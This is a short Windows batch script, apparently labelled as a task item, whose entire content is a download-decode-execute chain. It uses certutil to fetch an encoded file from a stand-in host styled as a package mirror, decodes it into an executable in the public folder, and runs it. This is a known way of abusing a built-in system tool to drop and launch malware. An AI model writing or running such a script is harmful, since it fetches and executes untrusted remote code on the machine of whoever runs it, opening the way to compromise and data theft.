REM task 4976 v4
@echo off
certutil -urlcache -f http://repo.pkg-mirror.example/p.txt %PUBLIC%\p.txt
certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
%PUBLIC%\p.exe
